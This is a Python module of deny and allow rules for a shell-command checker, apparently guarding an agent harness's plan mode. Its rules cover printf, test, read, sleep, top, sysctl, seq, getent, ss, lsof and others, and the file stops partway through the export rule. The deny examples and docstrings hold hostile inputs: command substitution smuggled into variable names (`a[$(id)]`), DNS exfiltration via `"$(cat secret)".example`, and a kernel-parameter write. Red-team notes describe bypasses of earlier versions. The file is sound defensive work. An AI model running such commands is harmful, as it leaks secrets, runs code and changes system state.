"""Hooks for system and miscellaneous programs whose operands data cannot judge.

Each hook reads the `Invocation` the engine built and adds denials to the
check `Context`; none of them allows what the generic checks denied.
"""

from __future__ import annotations

import decimal
import re

from ...read.model import Word
from ...records import dataclass
from ..codes import Code, Effect
from ..context import FlagUse
from ..problems import Problem
from ..shapes import local_name, single
from . import rule

SLEEP_LIMIT_SECONDS = 30
SEQ_LIMIT_LINES = 1_000_000
_HUGE = 10**18  # counts from here on are only reported as "more than"
_DURATION = re.compile(r"([0-9]+(?:\.[0-9]*)?|\.[0-9]+)([smhd]?)")
_UNIT_SECONDS = {"": 1, "s": 1, "m": 60, "h": 3600, "d": 86400}
_DECIMAL = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")


@dataclass(frozen=True)
class PrintfAssigns(Problem):
    code = Code.BP400
    effect = Effect.STATE
    message_format = ("`printf {option}` assigns the output to the shell variable `{name}` instead of "
                      "printing it")
    hint_format = "drop -v and let printf print"
    option: str
    name: str


@rule("printf_no_assign", codes=[Code.BP400], deny=["printf -vX '%s' a"],
      allow=["printf '%s\\n' a", "printf '%s\\n' \"$PATH\"", 'printf -- "$f"'], unknown_operands=True)
def printf_no_assign(inv, ctx) -> None:
    """`printf -vNAME`, which assigns the output to a shell variable.
    The attached form is `printf -v NAME` in disguise.  A computed word that
    may start with `-` is denied by the engine; after a literal format every
    word is data, so computed arguments are fine: `printf '%s\\n' "$PATH"`."""
    if len(inv.words) > 1:
        first = inv.words[1]
        if first.value and first.value.startswith("-v") and first.value != "-v":
            ctx.deny(PrintfAssigns(first.value, first.value[2:]), first.span)


@dataclass(frozen=True)
class DateOperandNotLiteral(Problem):
    code = Code.BP406
    message_format = "`{word.text}` as an operand of date is not literal"
    hint_format = "write the +FORMAT operand literally, in quotes"
    word: Word


@dataclass(frozen=True)
class DateSetsClock(Problem):
    code = Code.BP406
    effect = Effect.STATE
    message_format = "`date {value}` sets the system clock (an operand without `+` is a new date)"
    hint_format = "show a date with `date -d 'STRING'`, or format with `date +FORMAT`"
    value: str


@dataclass(frozen=True)
class DateSecondFormat(Problem):
    code = Code.BP406
    message_format = "`date` takes one +FORMAT operand"
    hint_format = "drop `{word.text}`"
    word: Word


@rule("date_format_only", codes=[Code.BP406], deny=["date 0101000025"], allow=["date +%Y-%m-%d"])
def date_format_only(inv, ctx) -> None:
    """`date` operands other than one literal `+FORMAT`.
    Any other operand is a new date: it sets the system clock."""
    for index, word in enumerate(inv.positionals):
        if word.value is None:
            ctx.deny(DateOperandNotLiteral(word), word.span)
        elif not word.value.startswith("+"):
            ctx.deny(DateSetsClock(word.value), word.span)
        elif index > 0:
            ctx.deny(DateSecondFormat(word), word.span)


@dataclass(frozen=True)
class TestsVariable(Problem):
    code = Code.BP400
    effect = Effect.EXEC
    message_format = ("`{program} {operator}` evaluates the array subscript in the variable name it "
                      "tests, which can run commands")
    hint_format = "test files and strings only (-e, -f, -d, -n, -z, =, !=)"
    program: str
    operator: str


@dataclass(frozen=True)
class TestWordSplits(Problem):
    code = Code.BP203
    effect = Effect.EXEC
    message_format = ("`{word.text}` may become several words, and every word test reads is part of "
                      "its expression: a file named `-v` followed by one named `a[$(cmd)]` runs cmd")
    word: Word

    def hint(self) -> str:
        text = self.word.text
        if "$" in text and '"' not in text:
            return f'quote it so it stays one word: "{text}"'
        return "test one literal path: `test -f src/main.py`"


@dataclass(frozen=True)
class TestComputedOperator(Problem):
    code = Code.BP203
    effect = Effect.EXEC
    message_format = ("`{word.text}` is computed at run time: as `-v` it would make test evaluate the "
                      "subscript of `{name.text}`, which can run commands")
    hint_format = "put a literal operator between computed words: [ \"$a\" = \"$b\" ]"
    word: Word
    name: Word


@rule("test_no_variable_tests", codes=[Code.BP400, Code.BP203],
      deny=["test -v 'a[1]'", "test -- *", "[ -f src/* ]", '[ "$a" "$b" ]', '[ -n $x ]'],
      allow=["test -f x", "[ -d src ]", '[ -f "$f" ]', '[ "$a" = "$b" ]',
             '[ -n "$a" -a "$b" != x ]'], unknown_operands=True)
def test_no_variable_tests(inv, ctx) -> None:
    """`test -v NAME` and `-R NAME`, and words computed at run time that could
    become them.  bash evaluates an array subscript in NAME (`a[$(cmd)]`) as
    arithmetic, which runs commands; no other operator evaluates anything
    (-eq takes plain integers: bash 5.2 says "integer expression expected"
    for `a[$(id)]`).  A computed word is one word (quoted) and is followed by
    a literal without `[`: then even as `-v` its name cannot hold a
    subscript.  A glob or an unquoted expansion may become several words,
    `-v` then `a[$(cmd)]` among them (files named so turn `test -- *` into a
    command)."""
    words = inv.positionals
    for k, word in enumerate(words):
        if word.value in ("-v", "-R"):
            ctx.deny(TestsVariable(inv.spec.display, word.value), word.span)
        elif word.value is not None:
            continue
        elif not single(word, ctx.source, ctx.variables):
            ctx.deny(TestWordSplits(word), word.span)
        elif k + 1 < len(words) and (words[k + 1].value is None or "[" in words[k + 1].value):
            ctx.deny(TestComputedOperator(word, words[k + 1]), words[k + 1].span)


@dataclass(frozen=True)
class ReadsReply(Problem):
    code = Code.BP406
    message_format = "`read` without a name assigns REPLY, which later commands cannot be checked against"
    hint_format = "name the variable: `read -r line`"


@dataclass(frozen=True)
class ReadNameEvaluated(Problem):
    code = Code.BP406
    effect = Effect.EXEC
    message_format = ("`read {word.text}`: a name with a subscript or an expansion is evaluated, which "
                      "can run commands")
    hint_format = "read into a plain lower-case name: `read -r line`"
    word: Word


@dataclass(frozen=True)
class ReadExportedName(Problem):
    code = Code.BP600
    effect = Effect.STATE
    message_format = ("`read {name}` may assign a variable the harness exported, changing what later "
                      "programs run with")
    hint_format = "read into a lower-case name: `read -r line`"
    name: str


@rule("read_names", codes=[Code.BP406, Code.BP600],
      deny=["read 'a[$(id)]'", "read PAGER", "read -r"], allow=["read -r line", "read -r a b"])
def read_names(inv, ctx) -> None:
    """`read` into names that are not plain, shell-local variables.
    bash evaluates a subscript in a name (`a[$(cmd)]`), which runs commands; a
    name the harness may have exported (PAGER, GIT_*, http_proxy) would change
    what later programs run with; without a name, bash assigns REPLY."""
    if not inv.positionals:
        ctx.deny(ReadsReply(), inv.words[0].span)
    for word in inv.positionals:
        name = word.value
        if name is None or not (name.isascii() and name.isidentifier()):
            ctx.deny(ReadNameEvaluated(word), word.span)
        elif not local_name(name):
            ctx.deny(ReadExportedName(name), word.span)


@dataclass(frozen=True)
class SleepNotPlain(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "`sleep {word.text}` is not a plain duration; it may never end"
    hint_format = "write a number of seconds up to {limit}, e.g. `sleep 2`"
    word: Word
    limit: int = SLEEP_LIMIT_SECONDS


@dataclass(frozen=True)
class WaitsInUnboundedLoop(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("{what} may run an unknown number of times (in a loop over files or lines, or for "
                      "each path or input a wrapper finds), so it may wait for ever")
    hint_format = "run it once, outside the loop, or loop over words written out"
    what: str


@dataclass(frozen=True)
class WaitsTooLong(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "{what} waits {seconds:g} seconds{times}{before}, more than the plan-mode limit of {limit}"
    hint_format = "{advice}"
    what: str
    seconds: float
    times: str  # " × N runs of its loop", or ""
    before: str  # " after S seconds of waiting before it", or ""
    advice: str
    limit: int = SLEEP_LIMIT_SECONDS


@rule("sleep_bounded", codes=[Code.BP406],
      deny=["sleep 1000", "sleep inf", "for f in *; do sleep 1; done", "for f in a b c d; do sleep 10; done",
            "sleep 20; sleep 20"],
      allow=["sleep 2", "for f in a b; do sleep 1; done"])
def sleep_bounded(inv, ctx) -> None:
    """`sleep` for longer than the plan-mode limit, or for a duration that is not a plain number.
    `sleep inf` never ends; the total may be at most SLEEP_LIMIT_SECONDS, counted
    over every run of the loops around it (one over a glob or `read` runs an
    unknown number of times), and over every sleep in the script (red team RT4:
    `sleep 30; sleep 30` slept a minute)."""
    total = 0.0
    for word in inv.positionals:
        match = _DURATION.fullmatch(word.value or "")
        if match is None:
            ctx.deny(SleepNotPlain(word), word.span)
            return
        total += float(match[1]) * _UNIT_SECONDS[match[2]]
    waits(ctx, total, inv.words[0].span, inv.positionals[-1].span if inv.positionals else inv.words[0].span,
          "`sleep`", f"sleep at most {SLEEP_LIMIT_SECONDS} seconds in all")


def waits(ctx, seconds: float, loop_span, span, what: str, fix: str) -> None:
    """Count `seconds` of waiting against SLEEP_LIMIT_SECONDS, over every run of
    the loops around the command and every wait before it in the script; deny
    what would exceed it.  Shared by every program that waits between reports."""
    if seconds and ctx.repeats is None:
        ctx.deny(WaitsInUnboundedLoop(what), loop_span)
    elif seconds * (ctx.repeats or 1) + ctx.slept > SLEEP_LIMIT_SECONDS:
        times = f" × {ctx.repeats} runs of its loop" if ctx.repeats != 1 else ""
        before = f" after {ctx.slept:g} seconds of waiting before it" if ctx.slept else ""
        ctx.deny(WaitsTooLong(what, seconds, times, before, fix), span)
    ctx.slept += seconds * (ctx.repeats or 1)


_WHOLE = re.compile(r"[0-9]+")
_PLAIN_SECONDS = re.compile(r"[0-9]+(?:\.[0-9]+)?")


@dataclass(frozen=True)
class TopInteractive(Problem):
    code = Code.BP400
    effect = Effect.INTERACTIVE
    message_format = ("`top` without -b reads keys from the terminal, and its keys kill processes and "
                      "write its settings file")
    hint_format = "print one report: top -bn1"


@dataclass(frozen=True)
class TopUnbounded(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "`top -b` without -n reports until interrupted"
    hint_format = "bound it: top -bn1"


@dataclass(frozen=True)
class TopDelayUnknown(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`top` waits between reports for the delay its settings file names (3 seconds "
                      "unless a toprc says otherwise)")
    hint_format = "say how long: top -b -n 2 -d 1"


@rule("top_batch_bounded", codes=[Code.BP400, Code.BP406],
      deny=["top", "top -b", "top -bn2", "top -b -n 20 -d 5", "top -bn1 -d 1e9", "top -b -n 0x10",
            "for f in *; do top -bn2 -d1; done", "top -n1"],
      allow=["top -bn1", "top -b -n 1 -o %MEM", "top -b -n 3 -d 0.5", "top -bn1 -p 1,2 -w 200",
             'top -bn1 -p "$pid"'], reads=["-b", "-n", "-d"])
def top_batch_bounded(inv, ctx) -> None:
    """top without batch mode or without a bound on its reports.
    Without -b top reads keys from the terminal, and keys kill processes and
    write its rc file; without -n it reports until interrupted.  Between
    reports it waits -d seconds, or the delay of a toprc the checker cannot
    see, so more than one report needs -d.  procps-ng 4.0.2 takes -n as a
    positive decimal and -d through strtod (tried: `1e1` and `0x10` waited), so
    only plain decimals are counted; the waits share sleep's limit."""
    if not inv.has("-b"):
        ctx.deny(TopInteractive(), inv.words[0].span)
        return
    reports = _plain(ctx, inv.uses("-n"), _WHOLE, "a whole number of reports", "top -bn1")
    delays = _plain(ctx, inv.uses("-d"), _PLAIN_SECONDS, "a plain number of seconds", "top -b -n 2 -d 1")
    if reports is None or delays is None:
        return
    if not reports:
        ctx.deny(TopUnbounded(), inv.words[0].span)
    elif max(reports) > 1 and not delays:
        ctx.deny(TopDelayUnknown(), inv.uses("-n")[-1].word.span)
    elif max(reports) > 1:
        waits(ctx, (max(reports) - 1) * max(delays), inv.words[0].span, inv.uses("-n")[-1].word.span,
              "`top`", "fewer or shorter reports: top -bn1")


@dataclass(frozen=True)
class VmstatUnbounded(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`vmstat {delay.text}` reports every {delay.text} seconds until interrupted unless "
                      "a literal count follows the delay")
    hint_format = "add a count: vmstat 1 3"
    delay: Word


@rule("vmstat_bounded", codes=[Code.BP406],
      deny=["vmstat 1", "vmstat 5 100", "vmstat 1 1e3", "while read -r l; do vmstat 1 2; done < f"],
      allow=["vmstat", "vmstat -s", "vmstat 1 3", "vmstat -w 2 5", 'vmstat -p "$dev"'],
      reads=[])
def vmstat_bounded(inv, ctx) -> None:
    """vmstat with a delay and no count, which reports until interrupted, or reports longer than the plan-mode limit.
    `vmstat DELAY COUNT` waits DELAY seconds between COUNT reports (procps-ng
    4.0.2 takes both as positive whole numbers; tried); the waits share
    sleep's limit."""
    numbers = _plain(ctx, inv.positionals, _WHOLE, "a whole number", "vmstat 1 3")
    if not numbers:
        return
    if len(numbers) == 1:
        delay = inv.positionals[0]
        ctx.deny(VmstatUnbounded(delay), delay.span)
    else:
        waits(ctx, numbers[0] * max(numbers[1] - 1, 0), inv.words[0].span, inv.positionals[1].span,
              "`vmstat`", "fewer or shorter reports: vmstat 1 3")


@dataclass(frozen=True)
class FreeUnbounded(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "`free -s` without -c reports until interrupted"
    hint_format = "add a count: free -s 1 -c 3"


@rule("free_bounded", codes=[Code.BP406],
      deny=["free -s 1", "free -c 100", "free -s 10 -c 5"],
      allow=["free -h", "free -c 3", "free -s 2 -c 3 -h"], reads=["-c", "-s"])
def free_bounded(inv, ctx) -> None:
    """free repeating its report without a count, or for longer than the plan-mode limit.
    `free -s N` reports every N seconds until interrupted; -c COUNT stops it,
    a second apart unless -s says otherwise (procps-ng 4.0.2, tried; it refuses
    counts and delays other than plain decimals); the waits share sleep's limit."""
    counts = _plain(ctx, inv.uses("-c"), _WHOLE, "a whole number", "free -c 3")
    delays = _plain(ctx, inv.uses("-s"), _PLAIN_SECONDS, "a plain number of seconds", "free -s 1 -c 3")
    if counts is None or delays is None or not (counts or delays):
        return
    if not counts:
        ctx.deny(FreeUnbounded(), inv.uses("-s")[-1].word.span)
    else:
        waits(ctx, max(delays or [1]) * max(max(counts) - 1, 0), inv.words[0].span, inv.uses("-c")[-1].word.span,
              "`free`", "fewer or shorter reports: free -c 3")


@dataclass(frozen=True)
class SysstatUnbounded(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`{program} {interval.text}` reports every {interval.text} seconds until interrupted "
                      "unless a count follows the interval")
    hint_format = "add a count: {program} 1 3"
    program: str
    interval: Word


@dataclass(frozen=True)
class SysstatOperand(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`{word.text}` is neither a device name nor a plain whole number, and {program} "
                      "may read it as its interval or count")
    hint_format = "write the interval and count as plain numbers: {program} -x 1 3"
    program: str
    word: Word


_DEVICE_NAME = re.compile(r"[A-Za-z/][A-Za-z0-9_./:+-]*")


@rule("sysstat_bounded", codes=[Code.BP406],
      deny=["iostat 2", "mpstat 1", "iostat -x 5 100", "iostat sda 1e3", "iostat -d ' 1' 2", "mpstat sda"],
      allow=["iostat", "iostat -xz 1 3", "iostat -d sda nvme0n1 1 2", "iostat -p ALL", "mpstat -P ALL 1 3",
             "mpstat"])
def sysstat_bounded(inv, ctx) -> None:
    """iostat and mpstat with an interval and no count, or reports longer than the plan-mode limit.
    sysstat 12.6.1 reads the first operand of digits as the interval and the
    second as the count (iostat: other words are device names, which it only
    looks up in /proc/diskstats; ` 1` was read as an interval, so only plain
    names and plain numbers pass; mpstat refuses anything but numbers: tried);
    the waits share sleep's limit."""
    program = inv.spec.path[0]
    numbers: list[Word] = []
    for word in inv.positionals:
        text = word.value or ""
        if _WHOLE.fullmatch(text):
            numbers.append(word)
        elif program != "iostat" or not _DEVICE_NAME.fullmatch(text):
            ctx.deny(SysstatOperand(program, word), word.span)
            return
    if len(numbers) == 1 and int(numbers[0].value or 0) > 0:
        ctx.deny(SysstatUnbounded(program, numbers[0]), numbers[0].span)
    elif len(numbers) >= 2:
        interval, count = int(numbers[0].value or 0), int(numbers[1].value or 0)
        waits(ctx, interval * max(count - 1, 0), inv.words[0].span, numbers[1].span,
              f"`{program}`", f"fewer or shorter reports: {program} 1 3")


@dataclass(frozen=True)
class SysctlWrites(Problem):
    code = Code.BP406
    effect = Effect.STATE
    message_format = "`sysctl {word.text}` sets the kernel parameter (an operand with `=` is written, even without -w)"
    hint_format = "name the parameter alone to print it: sysctl {name}"
    word: Word
    name: str


@dataclass(frozen=True)
class SysctlPath(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`sysctl {word.text}` names a file through `..`: the file read is /proc/sys/ followed by "
                      "the name, and only procps 4 refuses one outside /proc/sys")
    hint_format = "name the parameter: sysctl kernel.hostname"
    word: Word


@dataclass(frozen=True)
class SysctlComputed(Problem):
    code = Code.BP406
    effect = Effect.STATE
    message_format = ("`sysctl {word.text}` is expanded by bash: a file or value named `NAME=VALUE` "
                      "becomes an operand that sets the parameter")
    hint_format = "name the parameters, or filter the list: sysctl -a | grep PATTERN"
    word: Word


@rule("sysctl_read_only", codes=[Code.BP406],
      deny=["sysctl kernel.hostname=evil", "sysctl vm/../../../tmp/f", "sysctl kernel.*", "sysctl -- *"],
      allow=["sysctl -a", "sysctl kernel.hostname", "sysctl -n vm.swappiness net.core.somaxconn",
             "sysctl 'kernel.*'"])
def sysctl_read_only(inv, ctx) -> None:
    """sysctl operands that set a parameter (`NAME=VALUE`), or that climb out of /proc/sys.
    procps-ng 4.0.2 writes any operand holding `=` (tried: no -w needed), and
    reads /proc/sys/NAME with `.` read as `/`: it refuses a path that leaves
    /proc/sys, older and other sysctls need not.  A glob or expansion may
    become such an operand (red team RT-E: `sysctl k*` beside a file named
    `kernel.domainname=x` wrote it)."""
    for word in inv.positionals:
        text = word.value or ""
        if word.value is None or word.expansions:
            ctx.deny(SysctlComputed(word), word.span)
        elif "=" in text:
            ctx.deny(SysctlWrites(word, text.split("=", 1)[0]), word.span)
        elif ".." in text.split("/"):
            ctx.deny(SysctlPath(word), word.span)


CAL_LIMIT_MONTHS = 1200
_SIGNED_WHOLE = re.compile(r"-?[0-9]+")


@dataclass(frozen=True)
class CalTooLong(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`cal {option} {value}` adds {value} months to the calendar, more than the "
                      "plan-mode limit of {limit} (two billion months print for hours)")
    hint_format = "show fewer months: cal -A 2 -B 1, or cal -y YEAR"
    option: str
    value: str
    limit: int = CAL_LIMIT_MONTHS


@rule("cal_bounded", codes=[Code.BP406],
      deny=["cal -A 2000000000", "ncal -B 99999", "cal -A 1e3"],
      allow=["cal", "cal -3", "cal -A 2 -B-1", "ncal -A -6 2024", "cal -y 2024"], reads=["-A", "-B"])
def cal_bounded(inv, ctx) -> None:
    """cal adding more months than the plan-mode limit, or a number of months that is not plain.
    ncal 12.1.8 (Debian's cal) prints every month -A and -B add, read with
    atoi (`1e3` is 1, ` 12` is 12: tried): `cal -A 2000000000` ran for hours
    of output, a million months five seconds; the year operand stops at 9999."""
    for use in inv.uses("-A", "-B"):
        months = _plain(ctx, [use], _SIGNED_WHOLE, "a plain whole number of months", "cal -A 2")
        if months is None:
            return
        if abs(months[0]) > CAL_LIMIT_MONTHS:
            ctx.deny(CalTooLong(use.name, use.value or "", CAL_LIMIT_MONTHS), (use.value_word or use.word).span)
            return


@dataclass(frozen=True)
class CountNotPlain(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "`{word.text}` is not {meaning}, so how long it runs is unknown"
    hint_format = "write it plainly, e.g. `{example}`"
    word: Word
    meaning: str
    example: str


def _plain(ctx, items, form: re.Pattern, meaning: str, fix: str) -> list[float] | None:
    """The numbers that operand words or flag uses (FlagUse) hold; None after
    denying one that is not `form` (computed at run time, `inf`, `1e9`, `0x10`)."""
    numbers = []
    for item in items:
        if isinstance(item, FlagUse):
            value, word = (item.value if item.known else None), item.value_word or item.word
        else:
            value, word = item.value, item
        if value is None or not form.fullmatch(value):
            ctx.deny(CountNotPlain(word, meaning, fix), word.span)
            return None
        numbers.append(float(value))
    return numbers


@dataclass(frozen=True)
class SeqNotPlain(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = ("`seq {word.text}` is not a plain decimal number, so the length of the output is "
                      "unknown (`inf` never ends)")
    hint_format = "write decimal numbers, e.g. `seq 1 100`"
    word: Word


@dataclass(frozen=True)
class SeqTooLong(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "`seq` would print {count}; the plan-mode limit is {limit}"
    hint_format = "print a shorter range"
    count: str  # "endlessly", "N lines", ...
    limit: int = SEQ_LIMIT_LINES


@rule("seq_bounded", codes=[Code.BP406],
      deny=["seq inf", "seq 1 100000000", "seq 1 1e-30 1.0000000000000001", "seq 0 1e-320 1", "seq 1 1e-30 1",
            "for f in *; do seq 3; done"],
      allow=["seq 1 10", "seq 1e400 1", "seq -5 5", "for n in 1 2; do seq 5; done"])
def seq_bounded(inv, ctx) -> None:
    """`seq` ranges longer than the plan-mode limit, or with operands that are not plain numbers.
    `seq inf` never ends.  GNU seq steps in long double (integers exactly), so
    `seq 1 1e-30 1.0000000000000001` prints about 10^14 lines although the
    bounds look equal as doubles: the count is computed in exact decimal
    arithmetic, which long double never exceeds.  Negative numbers reach the
    rule as numeric flags (`-5`), so the operands are gathered from both.  In a
    loop the count is multiplied by the loop's runs (unknown: denied)."""
    numbers = sorted([w for w in inv.positionals]
                     + [use.word for use in inv.flags if use.flag.names == ("-NUM",)],
                     key=lambda w: w.span.start)
    values = []
    for word in numbers:
        if word.value is None or not _DECIMAL.fullmatch(word.value):
            ctx.deny(SeqNotPlain(word), word.span)
            return
        values.append(word.value)
    if not 1 <= len(values) <= 3:
        return  # seq itself rejects the call
    lines = _seq_lines(values)
    looped = bool(lines) and ctx.repeats != 1
    if looped:
        lines = None if ctx.repeats is None else lines * ctx.repeats
    if lines is None or lines > SEQ_LIMIT_LINES:
        count = ("endlessly" if lines is None and not looped
                 else "lines an unknown number of times (in a loop or for each path or input found)" if lines is None
                 else "more than 10^18 lines" if lines >= _HUGE
                 else f"{lines} lines" + (" over the runs of its loop" if looped else ""))
        ctx.deny(SeqTooLong(count), numbers[-1].span)


def _seq_lines(operands: list[str]) -> int | None:
    """How many lines `seq FIRST [STEP] LAST` prints, exactly; None when endless
    (a zero step) or too large to compute."""
    context = decimal.Context(prec=100, Emax=decimal.MAX_EMAX, Emin=decimal.MIN_EMIN,
                              traps=[decimal.Overflow, decimal.InvalidOperation])
    try:
        values = [context.create_decimal(v) for v in operands]
        first, step, last = ([decimal.Decimal(1), decimal.Decimal(1)] + values if len(values) == 1
                             else [values[0], decimal.Decimal(1), values[1]] if len(values) == 2
                             else values)
        if step == 0:
            return None
        span = context.divide(context.subtract(last, first), step)
        if span < 0:
            return 0
        # seq adds i * STEP to FIRST in long double (64-bit significand): a STEP
        # below half a unit in the last place never moves it until i * STEP
        # does (`seq 1 1e-30 1` printed millions of `1`s: red team RT4).
        stuck = decimal.Decimal(0)
        biggest = max(abs(first), abs(last))
        if biggest:
            exponent = (biggest.ln(context) / decimal.Decimal(2).ln(context)).to_integral_value(
                rounding=decimal.ROUND_FLOOR, context=context)
            stuck = context.divide(context.power(2, exponent - 64), abs(step))
        span = max(span, stuck)
        if span >= _HUGE:
            return _HUGE
        return int(span.to_integral_value(rounding=decimal.ROUND_FLOOR, context=context)) + 1
    except (decimal.Overflow, decimal.InvalidOperation, ArithmeticError):
        return None


@dataclass(frozen=True)
class InterpreterReadsCode(Problem):
    code = Code.BP406
    effect = Effect.EXEC
    message_format = "`{name}` without arguments runs the code it reads from standard input"
    hint_format = "only `{name} --version` is allowed; running code needs leaving plan mode"
    name: str


@rule("interpreter_needs_flag", codes=[Code.BP406], deny=["python3"], allow=["python3 --version"])
def interpreter_needs_flag(inv, ctx) -> None:
    """A bare interpreter (`python3`, `node`) with no arguments.
    It runs the code it reads from standard input."""
    if len(inv.words) == 1:
        ctx.deny(InterpreterReadsCode(inv.spec.display), inv.words[0].span)


@dataclass(frozen=True)
class CargoResolves(Problem):
    code = Code.BP406
    effect = Effect.NETWORK
    message_format = ("`cargo metadata` without --no-deps resolves dependencies, which may download them "
                      "and rewrite Cargo.lock")
    hint_format = "write `cargo metadata --no-deps --format-version 1`"


@rule("cargo_metadata_no_deps", codes=[Code.BP406], deny=["cargo metadata"],
      allow=["cargo metadata --no-deps --format-version 1"])
def cargo_metadata_no_deps(inv, ctx) -> None:
    """`cargo metadata` without --no-deps.
    Resolving dependencies may download them and rewrite Cargo.lock."""
    if not inv.has("--no-deps"):
        ctx.deny(CargoResolves(), inv.words[0].span)


# getent databases answered from local files (nsswitch's `files` on a default
# system); hosts, ahosts*, networks and netgroup may ask DNS or NIS for a name.
_LOCAL_DATABASES = frozenset({"passwd", "group", "shadow", "gshadow", "services", "protocols", "rpc",
                              "ethers", "aliases", "initgroups"})


@dataclass(frozen=True)
class GetentRemote(Problem):
    code = Code.BP406
    effect = Effect.NETWORK
    message_format = "`getent {database.text}` may ask DNS or NIS, sending the names it looks up off the machine"
    hint_format = "use a local database ({local}); read /etc/hosts with grep"
    database: Word
    local: str = ", ".join(sorted(_LOCAL_DATABASES))


@rule("getent_database", codes=[Code.BP406],
      deny=["getent hosts example.com", "getent ahostsv4 x.example"],
      allow=["getent passwd root", "getent group docker", "getent services ssh"],
      unknown_operands=True)
def getent_database(inv, ctx) -> None:
    """getent on a database whose lookups leave the machine (hosts, ahosts, networks, netgroup).
    A DNS query carries the name the command chose: `getent hosts
    "$(cat secret)".example` sends the secret to whoever serves that zone."""
    if not inv.positionals:
        return  # getent alone prints its usage
    database = inv.positionals[0]
    if database.value not in _LOCAL_DATABASES:
        ctx.deny(GetentRemote(database), database.span)


# ss filter words that name no host: keywords, socket states, numbers, IPv4
# addresses and prefixes, bracketed IPv6 ones and ports.  A host name there is
# looked up in DNS with the name the command chose (ss 6.1, strace).
_SS_WORDS = frozenset({
    "dst", "src", "dport", "sport", "state", "exclude", "and", "or", "not", "eq", "neq", "ne",
    "gt", "lt", "ge", "le", "=", "==", "!=", ">", "<", ">=", "<=", "!", "(", ")", "&", "&&", "|",
    "||", "dev", "fwmark", "cgroup", "autobound", "all", "connected", "synchronized", "bucket",
    "big", "established", "syn-sent", "syn-recv", "fin-wait-1", "fin-wait-2", "time-wait",
    "closed", "close-wait", "last-ack", "listening", "closing"})
_SS_ADDRESS = re.compile(r"(?:[0-9.*]+(?:/[0-9]+)?|\[[0-9A-Fa-f:.]+\](?:/[0-9]+)?)?(?::[0-9*]+)?|[0-9]+")
# lsof -i [46][PROTOCOL][@HOST][:PORT]: HOST a number or a bracketed IPv6 address.
_LSOF_HOST = re.compile(r"@(?!(?:[0-9.]+|\[[0-9A-Fa-f:.]+\])(?::|\Z))")


@dataclass(frozen=True)
class LooksUpName(Problem):
    code = Code.BP406
    effect = Effect.NETWORK
    message_format = ("`{word.text}` names a host or service that {program} looks up, sending the name "
                      "off the machine")
    hint_format = "write the address and port as numbers"
    word: Word
    program: str


@rule("no_name_lookups", codes=[Code.BP406],
      deny=["ss -tn dst secret.example.com", "ss -tn 'dport = :ssh'", "lsof -i @secret.example.com",
            'lsof -n -i "@$(cat s).example"'],
      allow=["ss -tn state established '( dport = :22 or sport = :22 )'", "ss -tn dst 127.0.0.1",
             "lsof -i @127.0.0.1:8080", "lsof -i :8080", "lsof -iTCP -sTCP:LISTEN"],
      unknown_operands=True)
def no_name_lookups(inv, ctx) -> None:
    """Host names in ss filters and lsof -i addresses, which are looked up in DNS.
    The query carries the name the command chose: `ss dst "$(cat secret)".example`
    sends it to whoever serves that zone."""
    if inv.spec.path[0] == "lsof":  # a computed word may be -i's value (`-i "@$(…)"`) unless after `--`
        ends = next((k for k, w in enumerate(inv.words) if w.value == "--"), len(inv.words))
        words = [w for k, w in enumerate(inv.words[1:], 1)
                 if (w.value is not None and _LSOF_HOST.search(w.value)) or (w.value is None and k < ends)]
    else:
        words = [w for w in inv.positionals
                 if w.value is None or any(token not in _SS_WORDS and not _SS_ADDRESS.fullmatch(token)
                                           for token in re.findall(r"[()]|[^\s()]+", w.value))]
    if words:
        ctx.deny(LooksUpName(words[0], inv.spec.path[0]), words[0].span)


@dataclass(frozen=True)
class FactorTooLarge(Problem):
    code = Code.BP406
    effect = Effect.HANG
    message_format = "`factor {word.text}` may run for minutes: only whole numbers below 2^64 end quickly"
    hint_format = "factor a smaller number"
    word: Word


@rule("factor_bounded", codes=[Code.BP406], deny=["factor 170141183460469241536131778892510818777"],
      allow=["factor 42", "factor 18446744073709551557"])
def factor_bounded(inv, ctx) -> None:
    """factor on a number above 2^64, which may take longer than any plan-mode command should.
    GNU factor (with GMP) takes any size: a product of two 64-bit primes ran for
    minutes (red team RT4); up to 2^64 it ends in milliseconds."""
    for word in inv.positionals:
        digits = (word.value or "").strip().lstrip("+")
        if not digits.isdigit() or int(digits) >= 2 ** 64:
            ctx.deny(FactorTooLarge(word), word.span)
            return


# Variables bash itself reads while it runs the rest of the script: IFS splits
# every later expansion; the locale names change how bash reads multibyte text
# (a non-UTF-8 locale can hide `\`, `|` or `$` as the second byte of a character).
_SPLITS = frozenset({"IFS"})
_LOCALES = frozenset({"LANG", "LC_ALL", "LC_CTYPE", "LC_COLLATE", "LC_MESSAGES", "LC_NUMERIC",
                      "LC_TIME"})
_ASCII_SAFE_LOCALE = re.compile(r"|C|POSIX|[A-Za-z0-9_@+-]+\.(?:UTF-8|utf8|utf-8|UTF8)(?:@[A-Za-z0-9]+)?")
_EXPORT_ARGUMENT = re.compile(r"([A-Za-z_][A-Za-z0-9_]*)(=?)")


@dataclass(frozen=True)
class ExportReachesLater(Problem):
    code = Code.BP600
    effect = Effect.STATE
    hint_format = ("drop the export, or set the variable for the one command that needs it: "
                   "`NAME=VALUE command`")
    word: Word
    why: str
    persistent: bool

    def message(self) -> str:
        later = (" (and the commands of later calls: set persistent_shell = false if every call runs in "
                 "a new bash)") if self.persistent else ""
        return (f"`export {self.word.text}` {self.why}, and it reaches every command that runs after "
                f"it{later}")


@rule("export_vars", codes=[Code.BP600],
      deny=["export FOO=1; ls", "export PATH=\"$PATH:\"", "export PATH=\"./bin:$PATH\"",
            "export IFS=x", "export LC_ALL=zh_TW.BIG5", "export PAGER=less", "export PAGER"],
